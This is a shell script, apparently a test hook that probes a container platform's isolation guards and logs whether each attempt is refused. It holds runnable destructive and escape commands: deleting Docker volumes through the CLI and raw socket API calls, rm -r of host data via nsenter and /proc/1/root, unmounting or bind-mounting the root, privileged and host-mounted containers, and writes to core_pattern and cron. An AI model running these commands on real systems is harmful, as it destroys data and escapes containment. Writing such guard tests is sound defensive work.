#!/bin/sh
# A hook that is out for the app's data. Each line of the report is one try: `refused` or `DONE`.
volume=${WHARF_APP}_pgdata
report=$WHARF_APP_DIR/report.txt
state=$(dirname "$(dirname "$WHARF_APP_DIR")")/state
root=$(docker info --format '{{.DockerRootDir}}')
data=$root/volumes/$volume
container=$(docker ps -q --filter "label=com.docker.compose.project=$WHARF_APP" --filter label=com.docker.compose.service=db)
image=wharf-base/busybox:1

try() {
    name=$1
    shift
    if timeout 30 "$@" >/tmp/hook-said.$$ 2>&1; then
        echo "DONE $name: $(tail -n 1 /tmp/hook-said.$$)" >>"$report"
    else
        echo "refused $name: $(tail -n 1 /tmp/hook-said.$$)" >>"$report"
    fi
    rm -f /tmp/hook-said.$$
}

echo "root $root uid $(id -u) container ${container:-none}" >"$report"
try 'docker volume rm' docker volume rm -f "$volume"
try 'docker volume prune' docker volume prune -af
try 'docker system prune' docker system prune -f --volumes
try 'docker rm -v' docker rm -f -v "$container"
try 'the socket' curl -fsS --unix-socket /var/run/docker.sock -X DELETE "http://d/v1.45/volumes/$volume?force=1"
try 'the socket by its real path' curl -fsS --unix-socket /run/docker.sock -X DELETE "http://d/volumes/$volume"
try 'an encoded path' curl -fsS --path-as-is --unix-socket /run/docker.sock -X DELETE "http://d/%76olumes/$volume"
try 'no DOCKER_HOST' env -u DOCKER_HOST docker volume rm -f "$volume"
try 'DOCKER_HOST over TCP' env DOCKER_HOST=tcp://127.0.0.1:2375 docker volume rm -f "$volume"
try 'rm of the data' rm -r "$data"
try 'the data through process 1' rm -r "/proc/1/root$data"
try 'nsenter' nsenter -t 1 -m -- rm -r "$data"
try 'umount of the cover' sh -c "umount '$root' && rm -r '$data'"
try 'lazy umount' sh -c "umount -l '$root' && rm -r '$data'"
try 'a bind of the root' sh -c "mkdir -p /tmp/hook-bind && mount --bind / /tmp/hook-bind && rm -r '/tmp/hook-bind$data'"
try 'another proc' sh -c "mkdir -p /tmp/hook-proc && mount -t proc proc /tmp/hook-proc"
try 'a user namespace' unshare -Urm sh -c "umount '$root' && rm -r '$data'"
try 'a container with the root' docker run --rm -v /:/host "$image" rm -r "/host$data"
try 'a container with the volumes' docker run --rm -v "$root/volumes:/v" "$image" rm -r "/v/$volume"
try 'a privileged container' docker run --rm --privileged "$image" true
try 'a container in the host' docker run --rm --pid host "$image" true
try 'a volume that is a bind' docker volume create -o type=none -o o=bind -o "device=$root/volumes" "$WHARF_APP-bind"
try 'containerd' ctr --connect-timeout 3s -a /run/containerd/containerd.sock namespaces ls
try 'containerd of docker' ctr --connect-timeout 3s -a /var/run/docker/containerd/containerd.sock namespaces ls
try 'the other guard' curl -fsS --unix-socket "$state/guard-root.sock" http://d/_ping
try 'the agent' curl -sS --max-time 3 --unix-socket "$state/wharfd.sock" http://d/
try 'the keys of the backups' ls "$state/apps"
try 'a disk' sh -c "mknod /tmp/hook-disk b 8 0 && head -c 1 /tmp/hook-disk"
try 'the disks' sh -c 'ls /dev/sd* || ls /dev/vd* || ls /dev/nvme* || ls /dev/mem'
try 'the kernel' sh -c "echo '|/bin/true' >/proc/sys/kernel/core_pattern"
try 'a job of the server' sh -c 'echo x >/etc/cron.d/wharf-hook'
try 'a program of the server' touch /usr/bin/wharf-hook
try 'the services of the server' ls /run/systemd/private /run/dbus/system_bus_socket
try 'a process of the server' sh -c 'ls /proc/*/cmdline | grep -v "/proc/[0-9]\{1,3\}/" | grep -v self | grep -q [0-9]'
echo end >>"$report"
